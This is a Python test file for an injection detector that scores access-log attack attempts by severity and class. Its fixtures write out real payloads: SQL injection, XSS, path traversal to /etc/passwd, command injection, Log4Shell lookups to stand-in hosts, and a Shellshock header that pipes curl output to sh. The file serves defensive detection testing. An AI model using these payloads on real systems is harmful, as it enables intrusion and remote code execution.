"""Injection: attack signatures in the parameters (and paths) of calls, graded by the attempts of one
entity in a day; the score on hand-built frames, then the detector on the engine.
"""

from datetime import date, datetime

import polars as pl
from detect_patterns_support import RECORDS, at, event, insert, lawful_searches, whole_days

from detectors.injection import InjectionDetector
from detectors.messages import alert_title
from odwatch.clock import SHANGHAI, day_window

DAY = date(2026, 3, 10)
SEEN = datetime(2026, 3, 10, 3, tzinfo=SHANGHAI)


# ---- The score on hand-built frames (no engine) ------------------------------------------------------------

def attempts(n: int, classes=("sqli",), consumer_id: str = "", ip: str = "203.0.113.9") -> dict:
    return {
        "consumer_id": consumer_id,
        "anon_ip": "" if consumer_id else ip,
        "day": DAY,
        "attempts": n,
        "answered": n,
        "payloads": n,
        "classes": list(classes),
        "samples": ["' or 1=1 --"],
        "ips": [ip],
        "datasets": ["d1"],
        "first_seen": SEEN,
        "last_seen": SEEN,
    }


def test_one_attempt_is_low_two_medium_several_high():
    detector = InjectionDetector()
    assert [
        a.severity
        for a in detector.score(pl.DataFrame([attempts(1), attempts(2, ip="a"), attempts(3, ip="b")]))
    ] == ["low", "medium", "high"]
    [remote_code] = detector.score(pl.DataFrame([attempts(1, ("command_injection",))]))
    assert remote_code.severity == "medium"        # one attempt that would run code on the server
    [alert] = detector.score(pl.DataFrame([attempts(4, ("sqli", "xss"), consumer_id="c1")]))
    assert (alert.consumer_id, alert.client_ip, alert.dataset_id) == ("c1", "203.0.113.9", "d1")
    assert (alert.window_start, alert.window_end) == day_window(DAY)
    assert alert_title(alert.as_row(), "zh") == "c1发起注入攻击尝试 4 次（SQL 注入、跨站脚本）"
    assert (
        alert_title(alert.as_row(), "en")
        == "c1 made 4 injection attempt(s) (SQL injection, cross-site scripting)"
    )
    assert detector.score(pl.DataFrame()) == []


# ---- The detector on the engine: hand-built access logs ----------------------------------------------------

def test_one_injection_attempt_is_low_and_several_are_high(client):
    insert(client, lawful_searches(DAY, 1))
    insert(client, [event(at(DAY, 22, 1), "", "d1", client_ip="203.0.113.9", endpoint=RECORDS,
                          params={"q": "1' UNION SELECT username, password FROM users--"})])
    attacks = ["<svg/onload=alert(1)>", "../../../../etc/passwd", "%0d%0aSet-Cookie: a=b",
               "; cat /etc/passwd",
               "{{7*7}}", "${jndi:ldap://evil.example/a}"]
    insert(client, [event(at(DAY, 23, n), "c9", "d1", client_ip="192.0.2.7", endpoint=RECORDS,
                          params={"q": text}) for n, text in enumerate(attacks)])
    alerts = {a.consumer_id or a.client_ip: a for a in InjectionDetector().run(client, whole_days(DAY, DAY))}
    assert set(alerts) == {"203.0.113.9", "c9"}          # the lawful searches raise nothing
    one, many = alerts["203.0.113.9"], alerts["c9"]
    assert one.severity == "low" and one.evidence["attack_classes"] == ["sqli"]
    assert one.evidence["injection_samples"][0].startswith('{"q": "1\' UNION SELECT')
    assert many.severity == "high" and many.evidence["attempts"] == 6
    assert set(many.evidence["attack_classes"]) >= {"xss", "path_traversal", "crlf", "command_injection",
                                                    "ssti"}


def test_a_traversal_in_a_refused_path_is_an_attempt(client):
    insert(client, [event(at(DAY, 3, n), "", "", client_ip="203.0.113.77", status=404,
                          endpoint=f"/static/{'../' * (n + 3)}etc/passwd") for n in range(3)])
    [alert] = InjectionDetector().run(client, whole_days(DAY, DAY))
    assert alert.client_ip == "203.0.113.77" and "path_traversal" in alert.evidence["attack_classes"]


def test_log4shell_and_shellshock_in_the_user_agent_are_attempts_and_browsers_are_not(client):
    browsers = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) {Mobile} Safari/604.1"]
    insert(client, [event(at(DAY, 9, n), "", "", client_ip=f"198.51.100.{n}", endpoint="/", user_agent=agent)
                    for n, agent in enumerate(browsers)])
    hostile = ["${jndi:ldap://198.51.100.66:1389/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
               "() { :; }; /bin/bash -c 'curl http://x.example/s | sh'"]
    insert(client, [event(at(DAY, 10, n), "", "", client_ip=f"203.0.113.{60 + n}", endpoint="/", status=404,
                          user_agent=agent) for n, agent in enumerate(hostile)])
    alerts = {a.client_ip: a for a in InjectionDetector().run(client, whole_days(DAY, DAY))}
    assert sorted(alerts) == ["203.0.113.60", "203.0.113.61", "203.0.113.62"]
    assert all(a.severity == "medium" and "command_injection" in a.evidence["attack_classes"]
               for a in alerts.values())
    assert alerts["203.0.113.60"].evidence["injection_samples"] == ["User-Agent: ${jndi:ldap://198.51.100.66:1389/a}"]

